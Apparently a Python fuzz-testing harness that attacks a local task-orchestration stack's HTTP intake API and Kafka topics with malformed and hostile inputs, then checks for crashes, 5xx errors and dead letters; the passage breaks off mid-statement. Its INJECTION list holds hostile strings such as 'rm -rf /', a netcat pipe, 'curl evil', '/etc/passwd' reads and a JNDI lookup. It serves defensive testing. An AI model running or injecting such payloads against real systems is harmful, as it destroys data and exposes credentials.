"""Fuzz the intake HTTP API and the raw Kafka path of a running stack, and count what happened.

    python -m bench.fuzz [--http 3000] [--raw-per-kind 20] [--seed 1]     (make fuzz)

Starts the five services (fleetplane.cli.stack.Stack) in a temporary directory, then:

* HTTP: hostile bodies, path parameters, query parameters and headers at every ingest endpoint
  (malformed and non-object JSON, lone surrogates, NaN, huge and deeply nested bodies, unicode:
  RTL, zero-width, NUL, emoji; SQL, shell, template and path-traversal injection; garbage
  bearer tokens from an address of its own; malformed HTTP over a raw socket). Counted by
  endpoint and status; any 5xx is a failure.
* Kafka: garbage bytes, the Avro marker with garbage, unknown schema fingerprints, truncated
  bodies, valid encodings of another event type, huge fields, hostile field values and keys that
  are not the task id, on tasks.submitted and on the internal topics (tasks.accepted,
  tasks.routed, tasks.dispatch, tasks.lifecycle, tasks.outcomes, fleet.control). Every
  undecodable record must reach fleet.dlq with a reason from every service that consumes its
  topic; dead letters are counted by service, topic and error class.
* Then: every service process alive with the same pid and no restart, injection strings that
  are valid input stored and returned verbatim, and a valid task submitted afterwards completes.

The e2e test tests/e2e/test_fuzz.py runs the same code at a small scale on the session stack.
"""

from __future__ import annotations

import argparse
import json
import random
import re
import socket
import tempfile
import time
import uuid
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import httpx
from confluent_kafka import Consumer, Producer

from fleetplane.cli.stack import Stack
from fleetplane.core import events as ev
from fleetplane.core.serde import HEADER_LEN, MAGIC, default_serde
from fleetplane.core.states import TERMINAL_STATES
from fleetplane.core.topics import (
    ACCEPTED,
    CONTROL,
    DISPATCH,
    DLQ,
    LIFECYCLE,
    OUTCOMES,
    ROUTED,
    SUBMITTED,
)
from fleetplane.ingest.manifest import NAME_RE

INJECTIONS = [
    "'; DROP TABLE events; --", "\" OR 1=1 --", "1; SELECT sleep(10)", "x' UNION SELECT * --",
    "$(rm -rf /)", "`reboot`", "; cat /etc/passwd", "| nc 1.2.3.4 9", "&& curl evil",
    "{{7*7}}", "${jndi:ldap://x/a}", "<%= 7*7 %>", "#{7*7}", "<script>alert(1)</script>",
    "../../etc/passwd", "..\\..\\windows\\system32", "/etc/shadow", "%2e%2e%2fetc", "....//",
    "file:///etc/passwd", "\\\\server\\share",
]
UNICODE = [
    "\u202eevil\u202c", "zero\u200bwidth\u200d\ufeff", "nul\x00byte", "emoji 💸🔥👩‍👩‍👧",
    "مرحبا بالعالم", "\uff26\uff35\uff2c\uff2c", "e\u0301\u0301\u0301", "\u0000", "\x1b[31mred",
    "line\nbreak\r\n", "\t", "\U0001d573\U0001d58a\U0001d591", "a" * 64, "",
]
LONE_SURROGATES = ["x\ud800y", "\udfff", "\udbff\udbff"]
HOSTILE = INJECTIONS + UNICODE
ENCODABLE = [s for s in HOSTILE if "\x00" not in s]

#: which services consume each topic (and so must dead-letter an undecodable record on it).
#: (The executor's cancellation watcher also reads tasks.outcomes: it skips and logs.)
CONSUMERS: dict[str, tuple[str, ...]] = {
    SUBMITTED: ("ingest", "accounting"),
    ACCEPTED: ("router", "accounting"),
    ROUTED: ("coordinator", "accounting"),
    DISPATCH: ("executor", "accounting"),
    CONTROL: ("coordinator", "accounting"),
    LIFECYCLE: ("router", "coordinator", "accounting"),
    OUTCOMES: ("router", "coordinator", "accounting"),
}
UNDECODABLE = ("garbage", "empty", "magic-garbage", "unknown-fingerprint", "truncated")
DECODABLE = ("wrong-type", "hostile-fields", "huge-field", "key-mismatch")


@dataclass
class Report:
    http: Counter[tuple[str, str]] = field(default_factory=Counter)   # (endpoint, status)
    raw_sent: Counter[tuple[str, str]] = field(default_factory=Counter)  # (topic, kind)
    dlq: Counter[tuple[str, str, str]] = field(default_factory=Counter)  # service, topic, class
    dlq_reasons: Counter[tuple[str, str]] = field(default_factory=Counter)  # service, reason
    missing_dlq: list[str] = field(default_factory=list)
    server_errors: list[str] = field(default_factory=list)
    bad_answers: list[str] = field(default_factory=list)
    verbatim_mismatches: list[str] = field(default_factory=list)
    crashed: list[str] = field(default_factory=list)
    accepted_hostile: int = 0
    final_state: str = ""
    seconds: float = 0.0
    phases: dict[str, float] = field(default_factory=dict)

    @property
    def http_total(self) -> int:
        return sum(self.http.values())

    @property
    def http_5xx(self) -> int:
        return sum(n for (_, code), n in self.http.items() if code.startswith("5"))

    def ok(self) -> bool:
        return not (self.missing_dlq or self.server_errors or self.verbatim_mismatches
                    or self.crashed or self.http_5xx) and self.final_state == "completed"

    def summary(self) -> dict[str, Any]:
        by_status: Counter[str] = Counter()
        for (_, code), n in self.http.items():
            by_status[code] += n
        by_kind: Counter[str] = Counter()
        for (_, kind), n in self.raw_sent.items():
            by_kind[kind] += n
        by_service: Counter[str] = Counter()
        for (service, _, _), n in self.dlq.items():
            by_service[service] += n
        return {"http_requests": self.http_total, "http_by_status": dict(sorted(by_status.items())),
                "http_5xx": self.http_5xx, "raw_records": sum(self.raw_sent.values()),
                "raw_by_kind": dict(sorted(by_kind.items())),
                "dlq_by_service": dict(sorted(by_service.items())),
                "missing_dlq": len(self.missing_dlq), "crashed": self.crashed,
                "verbatim_mismatches": len(self.verbatim_mismatches),
                "accepted_hostile_raw": self.accepted_hostile, "final_task": self.final_state,
                "seconds": round(self.seconds, 1),
                "phase_seconds": {k: round(v, 1) for k, v in self.phases.items()}}


# -- HTTP ---------------------------------------------------------------------------------------
@dataclass
class Case:
    endpoint: str
    method: str
    path: str
    caller: str = "team"   # team | admin | none (no token) | anon (bad tokens, own address)
    params: dict[str, str] | None = None
    headers: dict[str, bytes] = field(default_factory=dict)
    content: bytes | None = None


def _json(doc: Any) -> bytes:
    return json.dumps(doc).encode()  # NaN/Infinity tokens and \\ud800 escapes as clients send


def _hostile(rng: random.Random, huge: bool = True) -> Any:
    roll = rng.random()
    if roll < 0.55:
        return rng.choice(HOSTILE)
    if roll < 0.65:
        return rng.choice(LONE_SURROGATES)
    if roll < 0.75 and huge:
        return "A" * rng.choice([1_001, 70_000, 250_000])
    return rng.choice([None, True, -1, 2**70, 1.5, float("nan"), float("inf"), [], {},
                       ["a"] * 300, {"$gt": ""}, [rng.choice(HOSTILE)]])


def _text(rng: random.Random) -> str:
    return str(rng.choice(HOSTILE + LONE_SURROGATES + ["A" * 5000]))


def _valid_manifest(team: str) -> dict[str, Any]:
    """A manifest ingest accepts and the stack completes (no repository: a pure model task)."""
    return {"apiVersion": "fleetplane/v1", "kind": "AgentTask",
            "metadata": {"name": "fuzz", "team": team, "labels": {"k": "v"}},
            "spec": {"taskType": "summarize", "prompt": "summarize the fuzz report",
                     "limits": {"maxTurns": 2}}}


MANIFEST_PATHS = [
    ("apiVersion",), ("kind",), ("metadata",), ("metadata", "name"), ("metadata", "team"),
    ("metadata", "labels"), ("metadata", "labels", "k"), ("spec",), ("spec", "taskType"),
    ("spec", "prompt"), ("spec", "systemPrompt"), ("spec", "workspace", "repository"),
    ("spec", "workspace", "ref"), ("spec", "writeScope"), ("spec", "dependsOn"),
    ("spec", "priority"), ("spec", "model", "name"), ("spec", "tools"), ("spec", "limits"),
    ("spec", "limits", "maxTurns"), ("spec", "limits", "maxCostUsd"), ("spec", "failurePolicy"),
    ("spec", "commands"), ("spec", "contextFiles"), ("spec", "temperature"), ("idempotencyKey",),
    ("spec", "surprise"), ("surprise",),
]


def set_path(doc: dict[str, Any], path: tuple[str, ...], value: Any) -> None:
    """Set doc[path[0]][path[1]]... = value, replacing what is not a mapping on the way."""
    cur = doc
    for part in path[:-1]:
        nxt = cur.get(part)
        if not isinstance(nxt, dict):
            nxt = cur[part] = {}
        cur = nxt
    cur[path[-1]] = value


def _body(rng: random.Random, team: str) -> bytes:
    roll = rng.random()
    if roll < 0.6:
        doc = _valid_manifest(team)
        for _ in range(rng.randint(1, 3)):
            set_path(doc, rng.choice(MANIFEST_PATHS), _hostile(rng))
        return _json(doc)
    return rng.choice([
        b"", b"{", b"null", b"[]", b"\"str\"", b"42", b"{\"a\":", b"\xff\xfe\x00garbage",
        b"{\"metadata\": NaN}", b"[" * 100_000 + b"]" * 100_000, b"{\"a\":1}" * 1000,
        b"x" * 1_100_000, _json({"spec": {"prompt": "A" * 1_050_000}}),
        "{\"spec\": \"\u202e\"}".encode(), bytes(rng.getrandbits(8) for _ in range(200)),
    ])


def _seg(value: Any) -> str:
    """A path segment: the hostile value URL-encoded (a client that quotes), or raw."""
    s = value if isinstance(value, str) else json.dumps(value)
    return quote(s.encode("utf-8", "surrogatepass"), safe="") if s else "%20"


def _params(rng: random.Random, names: list[str]) -> dict[str, str]:
    out = {}
    for name in rng.sample(names, rng.randint(1, len(names))):
        v = _hostile(rng, huge=False)
        out[name] = v if isinstance(v, str) else json.dumps(v)
    return {k: v.encode("utf-8", "surrogatepass").decode("utf-8", "replace")[:8000]
            for k, v in out.items()}


def _reason_body(rng: random.Random) -> bytes | None:
    return rng.choice([None, _json({"reason": _hostile(rng)}), _json({"x": 1}),
                       b"not json", _json([1]), _json({"reason": rng.choice(ENCODABLE)})])


def _header_value(rng: random.Random) -> bytes:
    s = rng.choice([*HOSTILE, "A" * 7000, "é" * 100])
    raw = s.encode("utf-8")
    return bytes(b for b in raw if b >= 0x20 and b != 0x7f) or b"-"


def http_cases(rng: random.Random, n: int, team: str, known_task: str) -> Iterator[Case]:
    """`n` hostile requests spread over every ingest endpoint."""
    tid = lambda: rng.choice([_seg(_hostile(rng, huge=False)), known_task,  # noqa: E731
                              uuid.uuid4().hex, "a" * 129, "..", "%2e%2e%2f%2e%2e"])
    makers: list[Callable[[], Case]] = [
        lambda: Case("POST /v1/tasks", "POST", "/v1/tasks", content=_body(rng, team),
                     headers={"content-type": rng.choice(
                         [b"application/json", b"text/plain", b"multipart/form-data",
                          _header_value(rng)])}),
        lambda: Case("GET /v1/tasks", "GET", "/v1/tasks",
                     caller=rng.choice(["team", "admin"]),
                     params=_params(rng, ["state", "type", "team", "limit"])),
        lambda: Case("GET /v1/tasks/{id}", "GET", f"/v1/tasks/{tid()}"),
        lambda: Case("GET /v1/tasks/{id}/events", "GET", f"/v1/tasks/{tid()}/events",
                     params=_params(rng, ["limit"]) if rng.random() < 0.3 else None),
        *[(lambda verb=verb: Case(f"POST /v1/tasks/{{id}}:{verb}", "POST",
                                  f"/v1/tasks/{tid()}:{verb}", content=_reason_body(rng),
                                  caller=rng.choice(["team", "admin"])))
          for verb in ("cancel", "approve", "reject")],
        lambda: Case("GET /v1/cost", "GET", "/v1/cost", caller=rng.choice(["team", "admin"]),
                     params=_params(rng, ["by", "team", "since", "until"])),
        lambda: Case("GET /v1/budgets", "GET", "/v1/budgets",
                     caller=rng.choice(["team", "admin"]), params=_params(rng, ["team"])),
        lambda: _admin_team_case(rng),
        lambda: _kill_switch_case(rng),
        lambda: Case("GET /v1/admin/tokens", "GET", "/v1/admin/tokens",
                     caller=rng.choice(["team", "admin"]), params=_params(rng, ["team"])),
        lambda: Case("GET /healthz", "GET", "/healthz", caller="none",
                     params=_params(rng, ["x", "team"]),
                     headers={"x-fleetplane-source": _header_value(rng)}),
        lambda: Case("GET /v1/whoami", "GET", "/v1/whoami", headers={
            rng.choice(["x-fleetplane-source", "accept", "x-forwarded-for", "cookie",
                        "user-agent", "x-request-id", "host"]): _header_value(rng)}),
        lambda: Case("Authorization", *rng.choice([
                         ("GET", "/v1/tasks"), ("POST", "/v1/tasks"), ("GET", "/v1/whoami"),
                         ("GET", "/v1/cost"), ("GET", "/v1/admin/tokens"),
                         ("POST", "/v1/admin/kill-switch")]),
                     caller="anon", headers={"authorization": rng.choice([
                         b"Bearer " + _header_value(rng), _header_value(rng), b"Bearer",
                         b"Basic dXNlcjpwYXNz", b"Bearer fpt_000000000000_" + b"x" * 43,
                         b"bearer  fpt_" + _header_value(rng)[:80], b"Bearer " + b"A" * 7000])}),
    ]
    for _ in range(n):
        yield rng.choice(makers)()


def _admin_team_case(rng: random.Random) -> Case:
    value = _hostile(rng, huge=False)
    team = value if isinstance(value, str) else json.dumps(value)
    verb = rng.choice(["pause", "resume"])
    caller = "admin"
    if NAME_RE.match(team):
        caller = "team"  # a valid name: a team token (403), never a real pause of the fleet
    return Case(f"POST /v1/admin/teams/{{team}}:{verb}", "POST",
                f"/v1/admin/teams/{_seg(team)}:{verb}", caller=caller,
                content=_reason_body(rng))


def _kill_switch_case(rng: random.Random) -> Case:
    body = rng.choice([_json({"state": _hostile(rng), "reason": "fuzz"}),
                       _json({"state": "on", "reason": "fuzz"}),   # sent with a team token
                       _json({"state": "off", "extra": 1}), b"", b"on", _json(["on"])])
    valid_on = b'"state": "on"' in body and b"extra" not in body
    return Case("POST /v1/admin/kill-switch", "POST", "/v1/admin/kill-switch",
                caller="team" if valid_on else rng.choice(["team", "admin"]), content=body)


def raw_http(host: str, port: int, payload: bytes, source: str) -> str:
    """Send bytes that are not a well-formed HTTP request; the status line's code (or
    'closed' when the server just closed the connection)."""
    with socket.create_connection((host, port), timeout=10, source_address=(source, 0)) as s:
        try:
            s.sendall(payload)
            s.shutdown(socket.SHUT_WR)
            data = s.recv(200)
        except OSError:
            return "closed"
    if not data:
        return "closed"
    parts = data.split(b" ", 2)
    return parts[1].decode("latin-1") if len(parts) > 1 and parts[0].startswith(b"HTTP/") \
        else "garbage-answer"


MALFORMED_HTTP = [
    b"GARBAGE\r\n\r\n", b"\x00\x01\x02\x03\r\n\r\n", b"GET /v1/whoami HTTP/9.9\r\n\r\n",
    b"GET " + b"/a" * 40_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
    b"GET /v1/whoami HTTP/1.1\r\nHost: x\r\nX-Big: " + b"a" * 100_000 + b"\r\n\r\n",
    b"POST /v1/tasks HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\n{\"a\"",
    b"POST /v1/tasks HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nxx\r\n",
    b"POST /v1/tasks HTTP/1.1\r\nHost: x\r\nContent-Length: -5\r\n\r\n",
    b"GET /v1/tasks/\xff\xfe HTTP/1.1\r\nHost: x\r\n\r\n",
    b"GET /v1/whoami HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer \xff\xfe\r\n\r\n",
    b"GET /v1/whoami HTTP/1.1\r\nHost: x\r\nBad Header Name: 1\r\n\r\n",
]


def fuzz_http(report: Report, ingest_url: str, team: str, team_token: str, admin_token: str,
              known_task: str, n: int, seed: int, source: str = "127.0.0.6",
              anon_source: str = "127.0.0.5") -> list[str]:
    """Throw `n` hostile requests (plus the malformed-HTTP set); returns task ids accepted."""
    rng = random.Random(seed)
    accepted: list[str] = []
    tokens = {"team": team_token, "admin": admin_token}
    clients = {
        "auth": httpx.Client(base_url=ingest_url, timeout=60,
                             transport=httpx.HTTPTransport(local_address=source)),
        "anon": httpx.Client(base_url=ingest_url, timeout=60,
                             transport=httpx.HTTPTransport(local_address=anon_source)),
    }
    try:
        for case in http_cases(rng, n, team, known_task):
            client = clients["anon" if case.caller == "anon" else "auth"]
            headers = dict(case.headers)
            if case.caller in tokens and "authorization" not in headers:
                headers["authorization"] = f"Bearer {tokens[case.caller]}".encode()
            label = f"{case.endpoint} [{case.caller}]"
            try:
                r = client.request(case.method, case.path, params=case.params,
                                   headers=headers, content=case.content)
            except httpx.HTTPError as exc:
                report.http[(label, f"error:{type(exc).__name__}")] += 1
                continue
            report.http[(label, str(r.status_code))] += 1
            if r.status_code >= 500:
                report.server_errors.append(f"{case.method} {case.path[:120]} -> "
                                            f"{r.status_code} {r.text[:200]}")
            elif r.status_code >= 400 and not _explains(r):
                report.bad_answers.append(f"{label}: {r.status_code} {r.text[:120]}")
            if case.endpoint == "POST /v1/tasks" and r.status_code == 202:
                accepted.append(r.json()["task_id"])
        host, port = urlsplit(ingest_url).hostname or "127.0.0.1", urlsplit(ingest_url).port
        for payload in MALFORMED_HTTP:
            code = raw_http(host, port or 80, payload, source)
            report.http[("malformed HTTP (raw socket)", code)] += 1
            if code.startswith("5"):
                report.server_errors.append(f"raw {payload[:60]!r} -> {code}")
    finally:
        for c in clients.values():
            c.close()
    return accepted


def _explains(r: httpx.Response) -> bool:
    """A 4xx says why: a JSON body with `error` (ours) or `detail` (a route that is not ours)."""
    try:
        body = r.json()
    except ValueError:
        return False
    return isinstance(body, dict) and bool(body.get("error") or body.get("detail"))


# -- Kafka -------------------------------------------------------------------------------------
@dataclass(frozen=True)
class Sent:
    topic: str
    key: str
    kind: str
    must_dlq: tuple[str, ...]   # services that must dead-letter it


def _spec(rng: random.Random, hostile: bool) -> ev.TaskSpec:
    if not hostile:
        return ev.TaskSpec(name="fuzz", task_type="summarize", prompt="fuzz", max_turns=1)
    pick = lambda: rng.choice(ENCODABLE)  # noqa: E731
    return ev.TaskSpec(
        name=pick(), task_type=rng.choice(["summarize", pick()]), prompt=pick() or "p",
        repository=rng.choice([None, "../../etc", "/abs/repo", pick()]), ref=pick() or "main",
        write_scope=[pick() for _ in range(rng.randint(0, 3))],
        priority=pick(), model_preference=pick(), tier=rng.choice([None, pick()]),
        model=rng.choice([None, pick()]), allowed_tools=[pick()],
        max_cost_usd=rng.choice([None, float("nan"), float("inf"), -1.0, 1e300]),
        max_turns=rng.choice([1, 0, -5, 2**31 - 1]), timeout_s=rng.choice([1, 0, -1, 30]),
        max_attempts=rng.choice([1, 0, -3, 2**31 - 1]), failure_policy=pick(),
        temperature=rng.choice([0.0, float("nan"), -1.0, 1e308]),
        labels={pick(): pick()}, failure_policies={pick(): pick()}, conflict_policy=pick(),
        allowed_commands=[pick()], context_files=[pick()],
        parent_task_id=rng.choice([None, pick()]), depth=rng.choice([0, -1, 99]))


def _right_type(topic: str, key: str, team: str, rng: random.Random, hostile: bool
                ) -> ev.Event:
    """An event of the type `topic` carries (hostile field values when `hostile`)."""
    s = _spec(rng, hostile)
    pick = (lambda: rng.choice(ENCODABLE)) if hostile else (lambda: "fuzz")
    num = (lambda: rng.choice([float("nan"), float("inf"), -1.0, 1e300])) if hostile \
        else (lambda: 0.0)
    if topic == SUBMITTED:
        return ev.TaskSubmitted(task_id=key, team=team, spec=s)
    if topic == ACCEPTED:
        return ev.TaskAccepted(task_id=key, team=team, spec=s)
    if topic == ROUTED:
        return ev.TaskRouted(task_id=key, team=team, spec=s, attempt=rng.choice([1, 0, -1]),
                             model=pick(), provider=pick(), tier=pick(), reason=pick(),
                             estimated_cost_usd=num())
    if topic == DISPATCH:
        return ev.TaskDispatched(task_id=key, team=team, spec=s, attempt=rng.choice([1, 0, 7]),
                                 model=pick(), provider=pick(), tier=pick(),
                                 leased_paths=[pick()], action=rng.choice(["run", "rollback",
                                                                           pick()]),
                                 inputs={pick(): pick()})
    if topic == CONTROL:
        # never a fleet-wide command that would stop the stack (kill switch, pause)
        return ev.ControlCommand(task_id=key, team=team,
                                 command=rng.choice(["cancel", "approve", "reject", pick()]),
                                 requested_by=pick(), reason=pick())
    if topic == LIFECYCLE:
        return rng.choice([
            ev.TaskHeld(task_id=key, team=team, reason=pick(), kind=pick(), paths=[pick()]),
            ev.TaskFailed(task_id=key, team=team, attempt=1, failure_class=pick(),
                          reason=pick(), cost_usd=num()),
            ev.TaskEscalated(task_id=key, team=team, attempt=2, from_tier=pick(),
                             to_tier=pick(), reason=pick(), spec=s),
            ev.TaskStarted(task_id=key, team=team, attempt=1, executor_id=pick())])
    if topic == OUTCOMES:
        return rng.choice([
            ev.TaskCompleted(task_id=key, team=team, attempt=1, model=pick(), output=pick(),
                             cost_usd=num(), duration_ms=rng.choice([0, -1, 2**40])),
            ev.TaskFailed(task_id=key, team=team, attempt=1, failure_class=pick(),
                          reason=pick(), final=True, cost_usd=num()),
            ev.TaskCancelled(task_id=key, team=team, reason=pick()),
            ev.TaskRolledBack(task_id=key, team=team, attempt=1, reason=pick())])
    raise ValueError(topic)


def _other_type(topic: str, key: str, team: str, rng: random.Random) -> ev.Event:
    """A valid event of a type `topic` does not carry (never a ControlCommand: the coordinator
    acts on those wherever they come from)."""
    choices: list[ev.Event] = [
        ev.ModelCall(task_id=key, team=team, attempt=1, call_index=0, model="m", provider="p",
                     tier="small", input_tokens=1, output_tokens=1, cost_usd=0.0,
                     latency_ms=1.0, outcome="ok"),
        ev.Alert(task_id=key, team=team, severity="info", kind="fuzz", message="fuzz"),
        ev.TaskHeartbeat(task_id=key, team=team, attempt=1, executor_id="fuzz"),
        ev.TaskSubmitted(task_id=key, team=team, spec=_spec(rng, False)),
        ev.TaskHeld(task_id=key, team=team, reason="wrong topic"),
        ev.TaskCancelled(task_id=key, team=team, reason="wrong topic"),
    ]
    wanted = type(_right_type(topic, key, team, rng, False))
    return rng.choice([c for c in choices if not isinstance(c, wanted)])


def raw_records(rng: random.Random, run: str, per_kind: int, team: str
                ) -> Iterator[tuple[Sent, bytes]]:
    serde = default_serde()
    i = 0
    for topic, consumers in CONSUMERS.items():
        for kind in (*UNDECODABLE, *DECODABLE):
            for _ in range(per_kind):
                i += 1
                key = f"fz-{run}-{i}"
                must: tuple[str, ...] = consumers if kind in UNDECODABLE else ()
                if kind == "garbage":
                    value = bytes(rng.getrandbits(8) for _ in range(rng.randint(1, 300)))
                    if value[:2] == MAGIC:
                        value = b"\x00" + value
                elif kind == "empty":
                    value = b""
                elif kind == "magic-garbage":
                    value = MAGIC + bytes(rng.getrandbits(8) for _ in range(rng.randint(0, 9)))
                elif kind == "unknown-fingerprint":
                    body = serde.encode(_right_type(topic, key, team, rng, False))
                    value = MAGIC + rng.randbytes(8) + body[HEADER_LEN:]
                elif kind == "truncated":
                    body = serde.encode(_right_type(topic, key, team, rng, False))
                    value = body[:rng.randint(HEADER_LEN, len(body) - 2)]
                elif kind == "wrong-type":
                    value = serde.encode(_other_type(topic, key, team, rng))
                    if topic == SUBMITTED:
                        must = ("ingest",)   # the raw contract: another type is dead-lettered
                elif kind == "hostile-fields":
                    owner = rng.choice([team, team, rng.choice(ENCODABLE)])
                    value = serde.encode(_right_type(topic, key, owner, rng, True))
                elif kind == "huge-field":
                    e = _right_type(topic, key, team, rng, False)
                    big = "Z" * 300_000
                    if hasattr(e, "spec") and getattr(e, "spec", None) is not None:
                        e = e.model_copy(update={"spec": e.spec.model_copy(  # type: ignore
                            update={"prompt": big})})
                    else:
                        e = e.model_copy(update={"reason": big} if hasattr(e, "reason")
                                         else {"team": big[:100_000]})
                    value = serde.encode(e)
                else:  # key-mismatch: the key is ours, the event names another task
                    e = _right_type(topic, f"other-{key}", team, rng, False)
                    value = serde.encode(e)
                    if "coordinator" in consumers:
                        must = ("coordinator",)
                yield Sent(topic, key, kind, must), value


def fuzz_raw(report: Report, producer_config: dict[str, Any], run: str, per_kind: int,
             seed: int, team: str) -> list[Sent]:
    rng = random.Random(seed)
    producer = Producer({**producer_config, "message.max.bytes": 2_000_000})
    sent: list[Sent] = []
    for s, value in raw_records(rng, run, per_kind, team):
        while True:
            try:
                producer.produce(s.topic, key=s.key.encode(), value=value)
                break
            except BufferError:
                producer.poll(0.1)
        sent.append(s)
        report.raw_sent[(s.topic, s.kind)] += 1
    assert producer.flush(60) == 0, "raw records not delivered"
    return sent


def collect_dlq(report: Report, consumer_config: dict[str, Any], sent: list[Sent],
                timeout_s: float = 90.0, idle_s: float = 3.0) -> None:
    """Read fleet.dlq until every required dead letter is there (and the topic is idle)."""
    by_key = {s.key: s for s in sent}
    need = {(s.key, svc) for s in sent for svc in s.must_dlq}
    seen: set[tuple[str, str, str]] = set()   # (key, service, topic)
    serde = default_serde()
    c = Consumer({**consumer_config, "enable.auto.commit": False})
    c.subscribe([DLQ])
    deadline = time.monotonic() + timeout_s
    last = time.monotonic()
    try:
        while time.monotonic() < deadline and (need or time.monotonic() - last < idle_s):
            for m in c.consume(1000, 0.3):
                if m.error():
                    continue
                key = (m.key() or b"").decode("utf-8", "replace")
                if key not in by_key:
                    continue
                d = serde.decode(m.value() or b"")
                if not isinstance(d, ev.DeadLetter):
                    continue
                last = time.monotonic()
                if (key, d.service, d.source_topic) in seen:
                    continue   # a redelivery
                seen.add((key, d.service, d.source_topic))
                if not d.reason:
                    report.missing_dlq.append(f"{key} {d.service}: dead letter without reason")
                report.dlq[(d.service, d.source_topic, d.error_class)] += 1
                report.dlq_reasons[(d.service, reason_kind(d.reason))] += 1
                need.discard((key, d.service))
    finally:
        c.close()
    for key, svc in sorted(need):
        s = by_key[key]
        report.missing_dlq.append(f"{s.kind} record {key} on {s.topic}: no dead letter from "
                                  f"{svc}")


def reason_kind(reason: str) -> str:
    """A dead letter's reason without its particulars (ids, offsets, values): for counting."""
    head = reason.split("\n")[0]
    head = re.sub(r"[0-9a-f]{16}", "<fp>", head)
    head = re.sub(r"'[^']*'|\"[^\"]*\"", "<v>", head)
    head = re.sub(r"\d+", "<n>", head)
    return head[:70]


def accepted_keys(consumer_config: dict[str, Any], keys: set[str], idle_s: float = 2.0
                  ) -> set[str]:
    c = Consumer({**consumer_config, "enable.auto.commit": False})
    c.subscribe([ACCEPTED])
    found: set[str] = set()
    last = time.monotonic()
    try:
        while time.monotonic() - last < idle_s:
            for m in c.consume(1000, 0.3):
                last = time.monotonic()
                if not m.error() and (m.key() or b"").decode("utf-8", "replace") in keys:
                    found.add((m.key() or b"").decode())
    finally:
        c.close()
    return found


# -- checks ------------------------------------------------------------------------------------
VERBATIM_PROMPT = "\n".join(HOSTILE[:-1])   # NUL, RTL, zero-width, emoji, SQL, shell, ../


def submit_verbatim(http: httpx.Client, url: str, token: str, team: str, run: str) -> str:
    """A valid task whose free-text fields hold every injection string."""
    m = _valid_manifest(team)
    m["metadata"]["name"] = f"verbatim-{run}"
    m["metadata"]["labels"] = {s[:200]: s[:1000] for s in ENCODABLE if s}
    m["spec"]["prompt"] = VERBATIM_PROMPT
    m["spec"]["systemPrompt"] = "'; DROP TABLE events; -- {{7*7}} $(id) \u202e 💸"
    r = http.post(f"{url}/v1/tasks", json=m, headers={"Authorization": f"Bearer {token}"})
    assert r.status_code == 202, r.text
    task_id: str = r.json()["task_id"]
    return task_id


def check_verbatim(report: Report, http: httpx.Client, url: str, token: str, task_id: str
                   ) -> None:
    r = http.get(f"{url}/v1/tasks/{task_id}/events",
                 headers={"Authorization": f"Bearer {token}"})
    submitted = [e for e in r.json() if e["event_type"] == "TaskSubmitted"] \
        if r.status_code == 200 else []
    if not submitted:
        report.verbatim_mismatches.append(f"no TaskSubmitted for {task_id}: {r.status_code}")
        return
    spec = submitted[0]["payload"]["spec"]
    want = {"prompt": VERBATIM_PROMPT,
            "system_prompt": "'; DROP TABLE events; -- {{7*7}} $(id) \u202e 💸",
            "labels": {s[:200]: s[:1000] for s in ENCODABLE if s}}
    for k, v in want.items():
        if spec.get(k) != v:
            report.verbatim_mismatches.append(f"{k}: sent {str(v)[:80]!r}, got "
                                              f"{str(spec.get(k))[:80]!r}")


def wait_state(http: httpx.Client, url: str, token: str, task_id: str,
               timeout_s: float = 120.0) -> str:
    deadline = time.monotonic() + timeout_s
    state = ""
    while time.monotonic() < deadline:
        r = http.get(f"{url}/v1/tasks/{task_id}", headers={"Authorization": f"Bearer {token}"})
        row = r.json() if r.status_code == 200 else {"state": f"HTTP {r.status_code}"}
        state = row.get("state", "")
        if state == "completed":
            return state
        if state in TERMINAL_STATES:
            return f"{state}: {row.get('reason', '')}"[:300]
        time.sleep(0.5)
    return f"{state} after {timeout_s}s"


def run(stack: Stack, *, http_requests: int, raw_per_kind: int, seed: int) -> Report:
    """Fuzz a running stack; the report says what happened (see Report.ok)."""
    started = time.monotonic()
    report = Report()
    run_id = uuid.uuid4().hex[:6]
    team = f"fuzz-{run_id}"
    settings = stack.settings()
    token = stack.issue_token(team)
    stack.wait_token(token)
    before = {n: (c.pid, c.restarts) for n, c in stack.children.items()}
    url = stack.ingest_url
    with httpx.Client(timeout=60) as http:
        verbatim = submit_verbatim(http, url, token, team, run_id)
        target = http.post(f"{url}/v1/tasks", json=_valid_manifest(team),
                           headers={"Authorization": f"Bearer {token}"}).json()["task_id"]
        # the target is a real task of the team: the fuzz may cancel, approve or reject it
        t0 = time.monotonic()
        fuzz_http(report, url, team, token, stack.admin_token, target, http_requests, seed)
        report.phases["http"] = time.monotonic() - t0
        t0 = time.monotonic()
        sent = fuzz_raw(report, settings.producer_config(), run_id, raw_per_kind, seed, team)
        collect_dlq(report, settings.consumer_config(f"fuzz-dlq-{run_id}"), sent)
        report.phases["raw + dead letters"] = time.monotonic() - t0
        t0 = time.monotonic()
        hostile_submitted = {s.key for s in sent if s.topic == SUBMITTED and not s.must_dlq}
        report.accepted_hostile = len(accepted_keys(
            settings.consumer_config(f"fuzz-acc-{run_id}"), hostile_submitted))
        for name, child in stack.children.items():
            if not child.alive() or (child.pid, child.restarts) != before[name]:
                report.crashed.append(f"{name} (see {child.log_path})")
        for health in (f"{url}/healthz", f"{stack.accounting_url}/healthz",
                       f"http://127.0.0.1:{stack.coordinator_web_port}/coordinator/fleet/"):
            try:
                code = str(http.get(health).status_code)
            except httpx.HTTPError as exc:
                code = type(exc).__name__
            if code != "200":
                report.crashed.append(f"{health} answers {code}")
        for path in ("/v1/cost", "/v1/budgets", "/v1/tasks"):
            try:
                r = http.get(f"{url}{path}",
                             headers={"Authorization": f"Bearer {stack.admin_token}"})
            except httpx.HTTPError as exc:
                report.server_errors.append(f"after the fuzz: GET {path}: {exc}")
                continue
            if r.status_code != 200:
                report.server_errors.append(f"after the fuzz: GET {path} -> {r.status_code} "
                                            f"{r.text[:200]}")
        state = wait_state(http, url, token, verbatim)
        if state != "completed":
            report.verbatim_mismatches.append(f"the verbatim task {verbatim} is {state}")
        check_verbatim(report, http, url, token, verbatim)
        good = http.post(f"{url}/v1/tasks", json={**_valid_manifest(team), "metadata": {
